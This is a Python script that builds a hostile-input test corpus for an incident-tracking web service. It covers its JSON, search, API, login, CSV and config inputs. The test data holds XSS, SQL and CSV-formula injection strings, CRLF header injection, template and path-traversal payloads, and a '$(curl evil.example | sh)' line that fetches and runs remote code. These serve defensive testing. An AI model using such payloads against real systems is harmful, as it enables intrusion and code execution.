#!/usr/bin/env python3
"""Writes cases.jsonl: the hostile-input corpus (issue 15), run by tests/it/hostile.rs against
every input surface. Each case: id, surface, what it is (`why`), the request or file, and what
must happen (`expect`): `reject` (4xx in our error format, nothing stored), `accept` (2xx: hostile
text is data, stored byte for byte and escaped wherever it is shown), `no5xx` (either, never a
server error). Bodies are `body` (text), `body_hex` (raw bytes) or `gen` (prefix + repeat*times +
suffix, for huge inputs). Run it again after editing; the file is the data the test reads."""
import json, os

cases = []

def rep(ch, n):
    """A run of `n` copies of the one character `ch`, written compactly; the test expands
    `<<REPEAT:c:n>>` wherever it appears in a body, form field or file."""
    assert len(ch) == 1
    return f"<<REPEAT:{ch}:{n}>>"

def add(surface, why, expect, **kw):
    cases.append(dict(id=f"{surface}-{sum(1 for c in cases if c['surface'] == surface) + 1:03d}",
                      surface=surface, why=why, expect=expect, **kw))

def mention(text, i, **extra):
    m = {"source": "twitter", "external_id": f"hostile-{i}", "text": text}
    m.update(extra)
    return m

# --- JSON intake: hostile text is data (stored exactly, escaped when shown) ---
texts = [
    ("HTML script tag", "<script>alert('xss')</script> banjir di kota"),
    ("HTML event handler", "<img src=x onerror=alert(1)> jembatan putus"),
    ("attribute breakout", "\"><svg/onload=alert(document.cookie)>"),
    ("javascript URL in text", "klik javascript:alert(1) untuk bantuan"),
    ("SQL injection", "'; DROP TABLE mentions; --"),
    ("SQL tautology", "1' OR '1'='1' -- gempa"),
    ("SQL union", "x' UNION SELECT password_hash FROM users --"),
    ("CRLF mail header injection", "Banjir\r\nBcc: evil@example.com\r\nSubject: phish"),
    ("bare LF header injection", "Banjir\nContent-Type: text/html\n\n<b>x</b>"),
    ("bidi override", "file\u202Egnp.exe tautan resmi"),
    ("zero-width characters", "ho\u200Bax\u200D\uFEFF sebarkan"),
    ("4-byte emoji", "🌊🌊🔥 tsunami 🆘 segera mengungsi 🙏🏽"),
    ("spreadsheet formula HYPERLINK", "=HYPERLINK(\"http://evil.example\",\"klik\")"),
    ("spreadsheet formula cmd", "+cmd|' /C calc'!A0"),
    ("spreadsheet formula at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("template syntax", "{{ 7*7 }} {% for x in range(9999999) %}x{% endfor %}"),
    ("template raw", "{% raw %}{{ secret }}{% endraw %}"),
    ("markdown link", "[resmi](javascript:alert(1))"),
    ("null-ish words", "null undefined NaN None nil"),
    ("Arabic script", "تحذير عاجل: فيضان"),
    ("CJK", "紧急通知 洪水 警告"),
    ("Javanese script", "ꦧꦚ꧀ꦗꦶꦂ ꦲꦶꦁ ꦏꦸꦛ"),
    ("combining characters", "a" + "\u0301" * 500),
    ("right-to-left mark mix", "\u200Fhoaks\u200E valid"),
    ("control characters", "bel\u0007 esc\u001b[31m merah \u001b[0m"),
    ("backslashes and quotes", "\\\\server\\share \" ' ` $(id) ${HOME}"),
    ("shell substitution", "$(curl evil.example | sh) `reboot`"),
    ("path traversal words", "../../../../etc/passwd ..\\..\\windows\\win.ini"),
    ("very long word", rep("a", 19000)),
    ("only whitespace around", "   \t  hoaks   \n  "),
    ("unicode line separators", "baris\u2028baru\u2029paragraf"),
    ("surrogate-looking text", "\\ud83d\\ude00 literal escapes"),
    ("long URL in text", "lihat https://example.org/" + "a" * 5000),
    ("many hashtags", " ".join(f"#tag{i}" for i in range(800))),
    ("many mentions", " ".join(f"@user{i}" for i in range(800))),
    ("XML entity text", "<!DOCTYPE x [<!ENTITY a \"aaaa\">]><x>&a;&a;</x>"),
    ("CSS injection", "</style><style>*{display:none}</style>"),
    ("HTML comment", "<!-- --><script>alert(1)</script><!-- -->"),
    ("data URL", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("percent-encoded script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
]
for i, (why, text) in enumerate(texts):
    add("json", why, "accept", body=json.dumps(mention(text, i)))
accept_fields = [
    ("author handle with HTML", {"author": {"handle": "<b>@x</b>", "name": "<script>x</script>"}}),
    ("region with CRLF", {"region": "Metro\r\nX-Evil: 1"}),
    ("url with quotes", {"url": "https://example.org/?q=\"><script>"}),
    ("external id path traversal", {"external_id": "../../../etc/passwd"}),
    ("external id with spaces and slashes", {"external_id": "a b/c\\d"}),
]
for j, (why, extra) in enumerate(accept_fields):
    add("json", why, "accept", body=json.dumps(mention("teks biasa untuk uji", 100 + j, **extra)))

rejects = [
    ("empty body", ""),
    ("JSON null", "null"),
    ("JSON number", "42"),
    ("JSON string", "\"teks\""),
    ("truncated object", "{\"source\": \"twitter\", \"text\": \"a"),
    ("trailing garbage", json.dumps(mention("a", 200)) + "xyz"),
    ("missing text", json.dumps({"source": "twitter", "external_id": "x"})),
    ("text is a number", json.dumps({"source": "twitter", "external_id": "x", "text": 123})),
    ("text is an array", json.dumps({"source": "twitter", "external_id": "x", "text": ["a"]})),
    ("text is an object", json.dumps({"source": "twitter", "external_id": "x", "text": {"a": 1}})),
    ("text is null", json.dumps({"source": "twitter", "external_id": "x", "text": None})),
    ("text is true", json.dumps({"source": "twitter", "external_id": "x", "text": True})),
    ("empty text", json.dumps(mention("", 201))),
    ("whitespace-only text", json.dumps(mention("   \n\t ", 202))),
    ("source empty", json.dumps({"source": "", "external_id": "x", "text": "a"})),
    ("source is a number", json.dumps({"source": 7, "external_id": "x", "text": "a"})),
    ("followers is a string", json.dumps(mention("a", 203, author={"followers": "many"}))),
    ("followers negative", json.dumps(mention("a", 204, author={"followers": -1}))),
    ("followers overflows", '{"source":"twitter","external_id":"x","text":"a","author":{"followers":1e400}}'),
    ("likes negative", json.dumps(mention("a", 205, engagement={"likes": -5}))),
    ("likes is a float", json.dumps(mention("a", 206, engagement={"likes": 1.5}))),
    ("posted_at not a date", json.dumps(mention("a", 207, posted_at="kemarin sore"))),
    ("posted_at impossible", json.dumps(mention("a", 208, posted_at="2026-13-45T99:99:99Z"))),
    ("url javascript", json.dumps(mention("a", 209, url="javascript:alert(1)"))),
    ("url ftp", json.dumps(mention("a", 210, url="ftp://example.org/x"))),
    ("url not a URL", json.dumps(mention("a", 211, url="bukan url"))),
    ("author is a string", json.dumps(mention("a", 212, author="@x"))),
    ("engagement is an array", json.dumps(mention("a", 213, engagement=[1, 2]))),
    ("array with one bad item", json.dumps([mention("ok", 214), {"source": "twitter"}])),
    ("array of numbers", "[1, 2, 3]"),
]
for why, body in rejects:
    add("json", why, "reject", body=body)
add("json", "text one character over the limit", "reject", gen={"prefix": '{"source":"twitter","external_id":"long1","text":"', "repeat": "a", "times": 20001, "suffix": '"}'})
add("json", "external id of 10,000 characters", "no5xx", gen={"prefix": '{"source":"twitter","text":"a","external_id":"', "repeat": "x", "times": 10000, "suffix": '"}'})
add("json", "nesting 10,000 deep", "reject", gen={"prefix": "", "repeat": "[", "times": 10000, "suffix": ""})
add("json", "nesting 200 deep inside a field", "reject", gen={"prefix": '{"source":"twitter","external_id":"n","text":"a","author":', "repeat": "{\"a\":", "times": 200, "suffix": "1" + "}" * 200 + "}"})
add("json", "body over the size limit", "reject", gen={"prefix": '{"source":"twitter","external_id":"big","text":"', "repeat": "a", "times": 5 * 1024 * 1024, "suffix": '"}'})
add("json", "1,001 items in one request", "reject", body=json.dumps([mention("a", 3000 + k) for k in range(1001)]))
add("json", "invalid UTF-8", "reject", body_hex=("7b2274657874223a22" + "fffe" + "227d"))
add("json", "UTF-8 overlong encoding", "reject", body_hex=("7b2274657874223a22" + "c0af" + "227d"))
add("json", "lone surrogate escape", "no5xx", body='{"source":"twitter","external_id":"sur","text":"\\ud800 x"}')
add("json", "NUL escape in text", "no5xx", body='{"source":"twitter","external_id":"nul","text":"a\\u0000b"}')
add("json", "raw NUL byte in body", "reject", body_hex="7b22736f75726365223a2274776974746572222c2274657874223a2261" + "00" + "227d")
add("json", "UTF-8 BOM before JSON", "no5xx", body="\ufeff" + json.dumps(mention("bom", 230)))
add("json", "duplicate keys", "no5xx", body='{"source":"twitter","external_id":"dup","text":"a","text":"b"}')
add("json", "wrong content type", "reject", content_type="text/plain", body=json.dumps(mention("a", 231)))
add("json", "XML body", "reject", content_type="application/xml", body="<mention><text>a</text></mention>")
add("json", "form body", "reject", content_type="application/x-www-form-urlencoded", body="text=a&source=b")

# --- NDJSON intake ---
nd = [
    ("bad JSON on line 3", "reject", json.dumps(mention("a", 400)) + "\n" + json.dumps(mention("b", 401)) + "\n{oops\n"),
    ("empty lines between items", "no5xx", json.dumps(mention("a", 402)) + "\n\n\n" + json.dumps(mention("b", 403)) + "\n"),
    ("CRLF line endings", "no5xx", json.dumps(mention("a", 404)) + "\r\n" + json.dumps(mention("b", 405)) + "\r\n"),
    ("a line that is an array", "reject", "[1,2]\n"),
    ("a line that is a string", "reject", "\"x\"\n"),
    ("only newlines", "reject", "\n\n\n"),
    ("hostile text lines", "accept", "\n".join(json.dumps(mention(t, 410 + k)) for k, (_, t) in enumerate(texts[:10])) + "\n"),
    ("one bad item among good ones", "reject", json.dumps(mention("a", 430)) + "\n" + json.dumps({"source": "twitter", "text": 5}) + "\n"),
]
for why, expect, body in nd:
    add("ndjson", why, expect, content_type="application/x-ndjson", body=body)
add("ndjson", "one line of 6 MiB", "reject", content_type="application/x-ndjson", gen={"prefix": '{"source":"twitter","external_id":"ndbig","text":"', "repeat": "b", "times": 6 * 1024 * 1024, "suffix": '"}\n'})
add("ndjson", "1,001 lines", "reject", content_type="application/x-ndjson", body="".join(json.dumps(mention("a", 5000 + k)) + "\n" for k in range(1001)))
add("ndjson", "invalid UTF-8 on a line", "reject", content_type="application/x-ndjson", body_hex="7b2274657874223a22ff227d0a")

# --- search query syntax ---
queries = [
    ("empty query", ""), ("lone operator", "AND"), ("dangling NOT", "NOT"), ("unclosed quote", "\"banjir bandang"),
    ("unclosed paren", "(banjir OR"), ("stray close paren", "banjir)"), ("only wildcard", "*"), ("wildcard prefix", "*jir"),
    ("many wildcards", "b*a*n*j*i*r*"), ("question marks", "b?njir??"), ("range query", "text:[a TO z]"),
    ("fuzzy", "banjir~5"), ("boost", "banjir^100"), ("unknown field", "password:secret"), ("empty field", "source:"),
    ("field with traversal", "region:../../etc"), ("regex syntax", "/.*/"), ("SQL in query", "' OR 1=1 --"),
    ("HTML in query", "<script>alert(1)</script>"), ("NUL in query", "banjir\u0000gempa"), ("CRLF in query", "banjir\r\nX: y"),
    ("emoji query", "🌊🔥"), ("bidi in query", "\u202Ebanjir"), ("colon soup", ":::::"), ("plus minus soup", "+-+-+-banjir"),
    ("label that does not exist", "label:bukan_label"), ("label hoax", "label:hoax"), ("quotes inside quotes", "\"a \\\"b\\\" c\""),
    ("backslashes", "\\\\\\"), ("template syntax", "{{7*7}}"),
    ("tantivy grammar panic found by proptest", "<a\t-\t*"), ("the same with spaces", "<a - *"),
]
for why, q in queries:
    add("search", why, "no5xx", query={"q": q})
add("search", "10,000 terms", "no5xx", gen_query={"key": "q", "repeat": "a ", "times": 10000})
add("search", "1,000 nested parentheses", "no5xx", gen_query={"key": "q", "repeat": "(", "times": 1000, "suffix": "banjir" + ")" * 1000})
add("search", "1,000 ORs", "no5xx", gen_query={"key": "q", "repeat": "a OR ", "times": 1000, "suffix": "b"})
add("search", "50 KB query (URLs longer than 64 KB do not get through HTTP clients)", "no5xx", gen_query={"key": "q", "repeat": "x", "times": 50000})
add("search", "2,000 wildcard terms", "no5xx", gen_query={"key": "q", "repeat": "a* ", "times": 2000})
for why, params in [
    ("negative limit", {"q": "banjir", "limit": "-1"}), ("huge limit", {"q": "banjir", "limit": "100000000"}),
    ("limit not a number", {"q": "banjir", "limit": "sepuluh"}), ("negative offset", {"q": "banjir", "offset": "-5"}),
    ("offset overflow", {"q": "banjir", "offset": "99999999999999999999999"}), ("unknown sort", {"q": "banjir", "sort": "drop table"}),
    ("bad from date", {"q": "banjir", "from": "2026-13-45"}), ("bad to date", {"q": "banjir", "to": "kemarin"}),
    ("unknown parameter", {"q": "banjir", "evil": "1"}), ("label filter garbage", {"q": "banjir", "label": "<script>"}),
]:
    expect = "no5xx"
    add("search", why, expect, query=params)
add("search", "invalid percent-encoding", "no5xx", raw_query="q=%ff%fe%fd&limit=%zz")

# --- JSON bodies of the API (admin token; {incident} and {clarification} are real ids) ---
api = [
    ("POST", "/api/v1/users", "username with traversal", {"username": "../../etc", "name": "x", "role": "viewer", "password": "kata-sandi-panjang"}, "reject"),
    ("POST", "/api/v1/users", "username with SQL", {"username": "a'; DROP TABLE users;--", "name": "x", "role": "viewer", "password": "kata-sandi-panjang"}, "reject"),
    ("POST", "/api/v1/users", "username of 1,000 characters", {"username": "a" * 1000, "name": "x", "role": "viewer", "password": "kata-sandi-panjang"}, "reject"),
    ("POST", "/api/v1/users", "role root", {"username": "rootish", "name": "x", "role": "root", "password": "kata-sandi-panjang"}, "reject"),
    ("POST", "/api/v1/users", "role ingest for a person", {"username": "ingestish", "name": "x", "role": "ingest", "password": "kata-sandi-panjang"}, "reject"),
    ("POST", "/api/v1/users", "password too short", {"username": "pendek", "name": "x", "role": "viewer", "password": "123"}, "reject"),
    ("POST", "/api/v1/users", "password is a number", {"username": "angka", "name": "x", "role": "viewer", "password": 1234567890123}, "reject"),
    ("POST", "/api/v1/users", "unknown field", {"username": "u1", "name": "x", "role": "viewer", "password": "kata-sandi-panjang", "is_admin": True}, "reject"),
    ("POST", "/api/v1/users", "name with HTML (data)", {"username": "htmlname", "name": "<script>alert(1)</script>", "role": "viewer", "password": "kata-sandi-panjang"}, "no5xx"),
    ("POST", "/api/v1/users", "name with CRLF", {"username": "crlfname", "name": "a\r\nb", "role": "viewer", "password": "kata-sandi-panjang"}, "no5xx"),
    ("POST", "/api/v1/feeds", "file URL", {"name": "f1", "url": "file:///etc/passwd", "kind": "mentions"}, "reject"),
    ("POST", "/api/v1/feeds", "javascript URL", {"name": "f2", "url": "javascript:alert(1)", "kind": "mentions"}, "reject"),
    ("POST", "/api/v1/feeds", "gopher URL", {"name": "f3", "url": "gopher://127.0.0.1:25/", "kind": "mentions"}, "reject"),
    ("POST", "/api/v1/feeds", "name with traversal", {"name": "../../x", "url": "https://example.org/rss", "kind": "mentions"}, "reject"),
    ("POST", "/api/v1/feeds", "unknown kind", {"name": "f4", "url": "https://example.org/rss", "kind": "exec"}, "reject"),
    ("POST", "/api/v1/feeds", "negative interval", {"name": "f5", "url": "https://example.org/rss", "kind": "mentions", "every_secs": -1}, "reject"),
    ("POST", "/api/v1/feeds", "interval overflow", {"name": "f6", "url": "https://example.org/rss", "kind": "mentions", "every_secs": 1e30}, "reject"),
    ("POST", "/api/v1/feeds", "URL of 100 KB", {"name": "f7", "url": "https://example.org/" + rep("a", 100000), "kind": "mentions"}, "no5xx"),
    ("POST", "/api/v1/known-claims", "empty claim", {"claim": "", "verdict": "hoaks", "summary": "s"}, "reject"),
    ("POST", "/api/v1/known-claims", "unknown verdict", {"claim": "klaim uji", "verdict": "mungkin", "summary": "s"}, "reject"),
    ("POST", "/api/v1/known-claims", "javascript URL", {"claim": "klaim uji dua", "verdict": "hoaks", "summary": "s", "url": "javascript:alert(1)"}, "reject"),
    ("POST", "/api/v1/known-claims", "claim is an object", {"claim": {"a": 1}, "verdict": "hoaks", "summary": "s"}, "reject"),
    ("POST", "/api/v1/known-claims", "incident that does not exist", {"claim": "klaim uji tiga", "verdict": "hoaks", "summary": "s", "incident_id": "../../x"}, "reject"),
    ("POST", "/api/v1/known-claims", "claim with HTML (data)", {"claim": "<img src=x onerror=alert(1)> klaim palsu tentang banjir", "verdict": "hoaks", "summary": "<b>s</b>"}, "no5xx"),
    ("POST", "/api/v1/incidents/{incident}/transitions", "unknown status", {"to": "deleted"}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/transitions", "status is a number", {"to": 5}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/transitions", "empty body", {}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/transitions", "reason of 1 MB", {"to": "dismissed", "reason": rep("x", 1000000)}, "no5xx"),
    ("PATCH", "/api/v1/incidents/{incident}", "unknown verdict", {"verdict": "pasti"}, "reject"),
    ("PATCH", "/api/v1/incidents/{incident}", "assignee with CRLF", {"assignee": "budi\r\nBcc: x@evil"}, "no5xx"),
    ("PATCH", "/api/v1/incidents/{incident}", "labels with HTML", {"labels": ["<script>"]}, "reject"),
    ("PATCH", "/api/v1/incidents/{incident}", "labels is a string", {"labels": "hoax"}, "reject"),
    ("PATCH", "/api/v1/incidents/{incident}", "unknown field", {"status": "resolved", "drop": True}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/merge", "merge into itself", {"into": "{incident}"}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/merge", "merge into traversal", {"into": "../../x"}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/split", "10,000 mention ids", {"mention_ids": [f"m_{k}" for k in range(10000)]}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/split", "ids of the wrong type", {"mention_ids": [1, 2, 3]}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/clarifications", "channel traversal", {"channel": "../../etc/passwd"}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/clarifications", "variables nested", {"channel": "whatsapp", "variables": {"a": {"b": "c"}}}, "reject"),
    ("POST", "/api/v1/incidents/{incident}/clarifications", "10,000 variables", {"channel": "whatsapp", "variables": {f"v{k}": "x" for k in range(10000)}}, "no5xx"),
    ("POST", "/api/v1/incidents/{incident}/clarifications", "variable with template syntax", {"channel": "whatsapp", "variables": {"fakta": "{{ instansi }}{% include '/etc/passwd' %}"}}, "no5xx"),
    ("PUT", "/api/v1/incidents/{incident}/playbook", "playbook traversal", {"playbook": "../../etc/passwd"}, "reject"),
    ("PUT", "/api/v1/incidents/{incident}/playbook", "playbook is null", {"playbook": None}, "reject"),
    ("PUT", "/api/v1/incidents/{incident}/checklist/-1", "negative step", {"done": True}, "reject"),
    ("PUT", "/api/v1/incidents/{incident}/checklist/99999999999999999999", "step overflows", {"done": True}, "reject"),
    ("PUT", "/api/v1/incidents/{incident}/checklist/1", "done is a string", {"done": "yes"}, "reject"),
    ("PATCH", "/api/v1/clarifications/{clarification}", "title of 1 MB", {"title": rep("x", 1000000)}, "reject"),
    ("PATCH", "/api/v1/clarifications/{clarification}", "body with script (data)", {"body": "<script>alert(1)</script> Faktanya: tidak benar."}, "no5xx"),
    ("PATCH", "/api/v1/clarifications/{clarification}", "unknown verdict", {"verdict": "ragu"}, "reject"),
    ("POST", "/api/v1/clarifications/{clarification}/copies", "channel traversal", {"channel": "../../x"}, "reject"),
    ("POST", "/api/v1/review/m_guessed", "unknown decision", {"decision": "maybe"}, "reject"),
    ("POST", "/api/v1/review/m_guessed", "labels wrong type", {"decision": "confirm", "labels": "hoax"}, "reject"),
]
for method, path, why, body, expect in api:
    add("api", why, expect, method=method, path=path, body=json.dumps(body))
for method, path in [("POST", "/api/v1/users"), ("POST", "/api/v1/feeds"), ("POST", "/api/v1/known-claims"),
                     ("POST", "/api/v1/incidents/{incident}/transitions"), ("PATCH", "/api/v1/incidents/{incident}"),
                     ("POST", "/api/v1/incidents/{incident}/clarifications")]:
    add("api", f"bad JSON to {method} {path}", "reject", method=method, path=path, body="{\"a\":")
    add("api", f"invalid UTF-8 to {method} {path}", "reject", method=method, path=path, body_hex="7b2261223a22ff227d")
    add("api", f"deep nesting to {method} {path}", "reject", method=method, path=path, gen={"prefix": "", "repeat": "[", "times": 5000, "suffix": ""})

# --- the login form ---
for why, form, expect in [
    ("username of 100 KB", {"username": rep("a", 100000), "password": "x"}, "reject"),
    ("username with NUL", {"username": "admin\u0000", "password": "x"}, "reject"),
    ("username with CRLF", {"username": "admin\r\nSet-Cookie: x=1", "password": "x"}, "reject"),
    ("SQL in username", {"username": "' OR 1=1 --", "password": "x"}, "reject"),
    ("password of 1 MB", {"username": "admin", "password": rep("p", 1000000)}, "reject"),
    ("missing password", {"username": "admin"}, "reject"),
    ("HTML in username", {"username": "<script>alert(1)</script>", "password": "x"}, "reject"),
]:
    add("login", why, expect, form=form)

# --- CSV files for `tanggap ingest` ---
csvs = [
    ("formula cells", "source,external_id,text\ntwitter,c1,\"=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\"\ntwitter,c2,+cmd|' /C calc'!A0\n"),
    ("unbalanced quote", "source,external_id,text\ntwitter,c3,\"never closed\n"),
    ("missing text column", "source,external_id\ntwitter,c4\n"),
    ("extra columns", "source,external_id,text,evil\ntwitter,c5,teks,x\n"),
    ("CRLF inside a quoted field", "source,external_id,text\r\ntwitter,c6,\"baris\r\nBcc: x\"\r\n"),
    ("BOM and semicolons", "\ufeffsource;external_id;text\ntwitter;c7;teks\n"),
    ("NUL in a field", "source,external_id,text\ntwitter,c8,a\u0000b\n"),
    ("empty file", ""),
    ("header only", "source,external_id,text\n"),
    ("10,000 columns", "source,external_id,text," + ",".join(f"c{k}" for k in range(10000)) + "\ntwitter,c9,teks\n"),
    ("text over the limit", "source,external_id,text\ntwitter,c10," + rep("a", 20001) + "\n"),
    ("HTML and SQL text", "source,external_id,text\ntwitter,c11,<script>alert(1)</script>\ntwitter,c12,'; DROP TABLE mentions; --\n"),
]
for why, text in csvs:
    add("csv", why, "no5xx", file=text)
add("csv", "invalid UTF-8", "no5xx", file_hex="736f757263652c65787465726e616c5f69642c746578740a747769747465722c6331332cfffe0a")

# --- playbook files (`tanggap check-playbooks`) ---
pbs = [
    ("not TOML", "this is not toml {{{"),
    ("deep nesting", "a = " + "[" * 5000 + "]" * 5000),
    ("id with traversal", 'id = "../../etc/passwd"\nname = "x"\nlabels = ["hoax"]\nversion = 1\n'),
    ("template with unclosed variable", 'id = "pb-uji"\nname = "x"\nlabels = ["hoax"]\nversion = 1\n[[steps]]\ntitle = "s"\n[[templates]]\nchannel = "whatsapp"\nlang = "id"\ntitle = "t"\nbody = "{{ unclosed"\n'),
    ("steps is a string", 'id = "pb-uji2"\nname = "x"\nlabels = ["hoax"]\nversion = 1\nsteps = "all"\n'),
    ("duplicate keys", 'id = "a"\nid = "b"\n'),
    ("huge string", 'id = "pb-big"\nname = "' + rep("x", 1000000) + '"\n'),
    ("unknown label", 'id = "pb-uji3"\nname = "x"\nlabels = ["<script>"]\nversion = 1\n'),
    ("NUL in a string", 'id = "pb-nul"\nname = "a\u0000b"\n'),
    ("negative version", 'id = "pb-uji4"\nname = "x"\nlabels = ["hoax"]\nversion = -1\n'),
]
for why, text in pbs:
    add("playbook", why, "reject", file=text)
add("playbook", "invalid UTF-8", "reject", file_hex="6964203d2022ff220a")

# --- the config file (any command reads it first) ---
cfgs = [
    ("not TOML", "[server\nlisten ="),
    ("listen is a number", "[server]\nlisten = 8080\n"),
    ("listen garbage", "[server]\nlisten = \"not an address\"\n"),
    ("unknown key", "[server]\nevil = true\n"),
    ("negative body limit", "[server]\nmax_body_bytes = -1\n"),
    ("body limit overflow", "[server]\nmax_body_bytes = 99999999999999999999999\n"),
    ("deep nesting", "x = " + "[" * 5000 + "]" * 5000),
    ("unknown severity", "[alerts]\nmin_severity = \"panic\"\n"),
    ("metrics access unknown", "[server]\nmetrics = \"everyone\"\n"),
    ("team with no on-call people", "[[teams]]\nid = \"t\"\nname = \"t\"\ntimezone = \"Asia/Jakarta\"\nrotation = \"weekly\"\noncall = []\nlead = \"a@b.c\"\n"),
    ("time zone garbage", "[[teams]]\nid = \"t\"\nname = \"t\"\ntimezone = \"Mars/Olympus\"\nrotation = \"weekly\"\noncall = [\"a@b.c\"]\nlead = \"a@b.c\"\n"),
    ("classifier precision unknown", "[classifier]\nprecision = \"int4\"\n"),
]
for why, text in cfgs:
    add("config", why, "reject", file=text)
add("config", "invalid UTF-8", "reject", file_hex="5b7365727665725d0a6c697374656e203d2022ff220a")

path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases.jsonl")
with open(path, "w") as f:
    for c in cases:
        f.write(json.dumps(c, ensure_ascii=False) + "\n")
by = {}
for c in cases:
    by[c["surface"]] = by.get(c["surface"], 0) + 1
print(f"{len(cases)} cases: {by}")
